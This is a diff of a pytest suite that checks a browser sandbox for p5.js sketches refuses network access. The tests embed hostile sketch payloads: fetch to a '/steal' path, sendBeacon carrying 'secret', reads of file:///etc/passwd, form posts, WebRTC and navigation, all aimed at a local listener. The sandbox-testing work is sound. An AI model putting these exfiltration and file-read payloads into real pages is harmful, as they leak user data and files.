@@ -174,35 +174,24 @@ def test_runaway_sketch_times_out_and_the_renderer_recovers(renderer):
 
 
 def test_network_is_refused_and_recorded(renderer):
-    tcp = socket.socket()
-    tcp.bind(("127.0.0.1", 0))
-    tcp.listen(8)
-    tcp.settimeout(0.2)
-    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    udp.bind(("127.0.0.1", 0))
-    udp.settimeout(0.2)
-    port, uport = tcp.getsockname()[1], udp.getsockname()[1]
-    hits: list = []
-    stop = threading.Event()
+    from conftest import Listener
 
-    def listen():
-        while not stop.is_set():
-            for sock, take in ((tcp, lambda: tcp.accept()), (udp, lambda: udp.recvfrom(2048))):
-                try:
-                    hits.append(take())
-                except OSError:
-                    pass
-
-    threading.Thread(target=listen, daemon=True).start()
+    lis = Listener()
+    hits = lis.hits
+    port = uport = int(lis.addr.rsplit(":", 1)[1])
+    # Each attempt is refused by the first layer that sees it: the page's harness (fetch, image
+    # elements, frames: RenderResult.forbidden), the CSP (WebSocket) or the route (an Image's src).
     code = f"""async function setup() {{
   createCanvas(600, 600, WEBGL);
-  fetch('http://127.0.0.1:{port}/steal').catch(() => {{}});
+  try {{ fetch('http://127.0.0.1:{port}/steal').catch(() => {{}}); }} catch (e) {{}}
   try {{ new WebSocket('ws://127.0.0.1:{port}/'); }} catch (e) {{}}
-  new Image().src = 'http://127.0.0.1:{port}/img.png';
-  const img = document.createElement('img'); img.src = '/local.png'; document.body.appendChild(img);
-  const f = document.createElement('iframe'); document.body.appendChild(f);  // WebRTC via a fresh realm
-  const pc = new f.contentWindow.RTCPeerConnection({{ iceServers: [{{ urls: 'stun:127.0.0.1:{uport}' }}] }});
-  pc.createDataChannel('x'); await pc.setLocalDescription(await pc.createOffer());
+  try {{ new Image().src = 'http://127.0.0.1:{port}/img.png'; }} catch (e) {{}}
+  try {{ const img = document.createElement('img'); img.src = '/local.png'; document.body.appendChild(img); }} catch (e) {{}}
+  try {{  // WebRTC via a fresh realm
+    const f = document.createElement('iframe'); document.body.appendChild(f);
+    const pc = new f.contentWindow.RTCPeerConnection({{ iceServers: [{{ urls: 'stun:127.0.0.1:{uport}' }}] }});
+    pc.createDataChannel('x'); await pc.setLocalDescription(await pc.createOffer());
+  }} catch (e) {{ console.log('no frame: ' + e.message); }}
   console.log('top-level RTCPeerConnection: ' + typeof RTCPeerConnection);
   await new Promise((r) => setTimeout(r, 2000));
   noLoop();
@@ -211,14 +200,14 @@ function draw() {{ background(255); }}
 """
     try:
         res = ok(renderer.render(code, 0, SIZE, 30, 1))
-        time.sleep(0.5)
+        assert lis.settle() == []
     finally:
-        stop.set()
-    print("\nrefused:", *res.refused, sep="\n  ")
-    assert hits == []
-    assert any(f"127.0.0.1:{port}/steal" in r for r in res.refused)
-    assert any(f"127.0.0.1:{port}/img.png" in r for r in res.refused)
-    assert "route GET http://brushrl.render/local.png" in res.refused
+        lis.close()
+    print("\nrefused:", *res.refused, "forbidden:", *res.forbidden, sep="\n  ")
+    assert res.forbidden["window.fetch"] == 1
+    assert any("connect-src" in r and "ws://127.0.0.1" in r for r in res.refused), res.refused
+    assert res.forbidden["HTMLImageElement.src="] == 1 and res.forbidden["Document.createElement"] == 2
+    assert any(line.startswith("log: no frame: ") for line in res.console), res.console
     assert "log: top-level RTCPeerConnection: undefined" in res.console
 
 
@@ -528,61 +517,47 @@ def test_pool_cache_renders_identical_jobs_once(pool):
 
 @pytest.fixture(scope="module")
 def listener():
-    """A TCP and a UDP socket on 127.0.0.1 recording every connection / datagram."""
-    tcp, udp = socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    tcp.bind(("127.0.0.1", 0))
-    tcp.listen(8)
-    udp.bind(("127.0.0.1", 0))
-    for s in (tcp, udp):
-        s.settimeout(0.1)
-    hits: list = []
-    stop = threading.Event()
+    """A TCP and a UDP socket on 127.0.0.1 recording every connection / datagram (conftest)."""
+    from conftest import Listener
 
-    def listen():
-        while not stop.is_set():
-            for take in (lambda: tcp.accept(), lambda: udp.recvfrom(2048)):
-                try:
-                    hits.append(take())
-                except OSError:
-                    pass
-
-    threading.Thread(target=listen, daemon=True).start()
-    yield f"127.0.0.1:{tcp.getsockname()[1]}", hits
-    stop.set()
+    lis = Listener()
+    yield lis
+    lis.close()
 
 
 #: One hostile sketch per sandbox rule: (setup body with {u} = the listener's host:port, text that
-#: must appear in ``refused``, expected status).
+#: must appear in ``refused`` or among the names in ``forbidden``, expected status). The page's
+#: harness refuses what it wraps (window functions, the DOM, navigation); what it does not wrap
+#: reaches the CSP or the route.
 HOSTILE = {
     "event_source": ("new EventSource('http://{u}/es')", "connect-src", "ok"),
     "send_beacon": ("navigator.sendBeacon('http://{u}/beacon', 'secret')", "http://{u}/beacon", "ok"),
     "blob_worker": ("new Worker(URL.createObjectURL(new Blob(['fetch(\"http://{u}/w\")'])))", "worker-src", "ok"),
     "shared_worker": ("try {{ new SharedWorker('/sw.js') }} catch (e) {{}}", "worker-src", "ok"),
-    "popup": ("window.open('http://{u}/popup')", "{u}/popup", "ok"),  # route and/or popup entry
-    "dialogs": ("alert('a'); confirm('b'); prompt('c')", "dialog prompt: c", "ok"),
-    "download": ("const a = document.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'x.txt'; "
-                 "document.body.appendChild(a); a.click()", "download data:text/plain,x", "ok"),
-    "file_read": ("fetch('file:///etc/passwd').catch(() => {{}}); const x = new XMLHttpRequest(); "
-                  "try {{ x.open('GET', 'file:///etc/hostname'); x.send(); }} catch (e) {{}}", "file:///etc/passwd", "ok"),
-    "form_post": ("const f = document.createElement('form'); f.action = 'http://{u}/form'; f.method = 'post'; "
-                  "document.body.appendChild(f); f.submit()", "form-action", "ok"),
-    # never finishes on its own: only the navigation can end it (else: timeout after 90 s)
-    "navigate_away": ("location.href = 'http://{u}/nav'; await new Promise(() => {{}})", "navigation ", "error"),
+    "popup": ("window.open('http://{u}/popup')", "window.open", "ok"),
+    "dialogs": ("alert('a'); confirm('b'); prompt('c')", "window.prompt", "ok"),
+    "download": ("try {{ const a = document.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'x.txt'; "
+                 "document.body.appendChild(a); a.click() }} catch (e) {{}}", "Document.createElement", "ok"),
+    "file_read": ("try {{ fetch('file:///etc/passwd') }} catch (e) {{}} const x = new XMLHttpRequest(); "
+                  "try {{ x.open('GET', 'file:///etc/hostname'); x.send(); }} catch (e) {{}}", "window.fetch", "ok"),
+    "form_post": ("try {{ const f = document.createElement('form'); f.action = 'http://{u}/form'; f.method = 'post'; "
+                  "document.body.appendChild(f); f.submit() }} catch (e) {{}}", "Document.createElement", "ok"),
+    # never finishes on its own: the refused navigation ends it at once (else: timeout after 90 s)
+    "navigate_away": ("location.href = 'http://{u}/nav'; await new Promise(() => {{}})", "navigation:http://{u}/nav", "ok"),
 }
 
 
 @pytest.mark.parametrize("rule", sorted(HOSTILE))
 def test_hostile_sketch_is_refused_recorded_and_nothing_gets_out(renderer, listener, rule):
-    addr, hits = listener
+    addr = listener.addr
     body, expect, status = HOSTILE[rule]
     code = ("async function setup() { createCanvas(600, 600, WEBGL); " + body.format(u=addr) +
             "; await new Promise((r) => setTimeout(r, 2000)); noLoop(); }\nfunction draw() { background(200); }")
-    hits.clear()
+    listener.hits.clear()
     res = renderer.render(code, 0, SIZE, 90, 1)
-    time.sleep(0.3)
     assert res.status == status, (res.status, res.js_errors, res.detail)
-    assert any(expect.format(u=addr) in r for r in res.refused), res.refused
-    assert hits == []  # not even a TCP handshake (a navigation's preconnect did reach it without netns)
+    assert any(expect.format(u=addr) in r for r in [*res.refused, *res.forbidden]), (res.refused, res.forbidden)
+    assert listener.settle() == []  # not even a TCP handshake (a navigation's preconnect did reach it without netns)
     assert renderer.netns  # this machine has user namespaces; without them the preconnect leaks
 
 
